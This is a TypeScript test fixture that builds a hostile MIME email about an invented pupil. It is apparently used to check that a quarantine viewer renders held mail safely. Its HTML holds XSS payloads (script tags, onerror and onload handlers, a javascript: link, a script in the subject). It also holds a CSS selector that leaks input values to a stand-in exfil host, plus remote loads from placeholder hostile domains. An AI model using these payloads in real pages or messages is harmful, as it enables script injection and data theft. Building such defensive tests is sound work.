import type { QuarantineRecord } from '../../../src/store/quarantine-store.js';
import { HEALTH_FINDING, inventedRecord, PUPIL_FINDING, PUPIL_NAME } from '../../store/support/invented-records.js';

/** Everything an attacker might put in an HTML body to run code or phone home when the DPO opens it. */
export const HOSTILE_HTML = [
  '<html><head>',
  '<meta http-equiv="refresh" content="0;url=http://refresh.hostile.example/">',
  '<link rel="stylesheet" href="http://css.hostile.example/a.css">',
  '<base href="http://base.hostile.example/">',
  '<style>@import url("http://import.hostile.example/b.css"); body { background: url("http://bg.hostile.example/c.png"); }',
  'input[value^="a"] { background: url("http://exfil.hostile.example/?a"); } @font-face { font-family: x; src: url("http://font.hostile.example/f.woff"); }</style>',
  '<script>alert("script ran"); fetch("http://fetch.hostile.example/");</script>',
  '</head><body onload="alert(\'onload ran\')">',
  `<p>Report for ${PUPIL_NAME}</p>`,
  '<img src="http://img.hostile.example/pixel.gif" onerror="alert(\'onerror ran\')">',
  '<img src="x" onerror="alert(\'onerror ran\')">',
  '<svg><script>alert("svg script ran")</script><image href="http://svg.hostile.example/i.png"/></svg>',
  '<a id="js-link" href="javascript:alert(\'link ran\')">click me</a>',
  '<a id="web-link" href="http://link.hostile.example/">and me</a>',
  '<iframe src="http://frame.hostile.example/"></iframe>',
  '<object data="http://object.hostile.example/o.swf"></object>',
  '<video src="http://video.hostile.example/v.mp4" autoplay></video>',
  '<form action="http://form.hostile.example/"><input name="q" value="abc"><button id="submit">go</button></form>',
  '<div style="background-image: url(http://inline.hostile.example/d.png)">styled</div>',
  '</body></html>',
].join('\r\n');

export function hostileRaw(): Buffer {
  const boundary = 'invented-boundary-1';
  return Buffer.from(
    [
      'From: Teacher One <teacher.one@stmarys-example.sch.uk>',
      'To: parent@example.org',
      'Subject: <script>alert("subject ran")</script> report',
      'MIME-Version: 1.0',
      `Content-Type: multipart/mixed; boundary="${boundary}"`,
      '',
      `--${boundary}`,
      'Content-Type: multipart/alternative; boundary="alt-1"',
      '',
      '--alt-1',
      'Content-Type: text/plain; charset=utf-8',
      '',
      `Report for ${PUPIL_NAME} <b>not bold</b>; asthma noted.`,
      '--alt-1',
      'Content-Type: text/html; charset=utf-8',
      '',
      HOSTILE_HTML,
      '--alt-1--',
      `--${boundary}`,
      'Content-Type: text/csv; name="class-list.csv"',
      'Content-Disposition: attachment; filename="class-list.csv"',
      '',
      'Name,Year',
      `${PUPIL_NAME},5`,
      `--${boundary}--`,
      '',
    ].join('\r\n'),
  );
}

/** A held record whose body is hostile HTML; invented names only. */
export function hostileRecord(id: string): QuarantineRecord {
  const inBody = { ...PUPIL_FINDING, location: { part: 'body' as const }, span: { start: 11, end: 11 + PUPIL_NAME.length } };
  return inventedRecord({ id, raw: hostileRaw(), subject: '<script>alert("subject ran")</script> report', findings: [inBody, HEALTH_FINDING] });
}
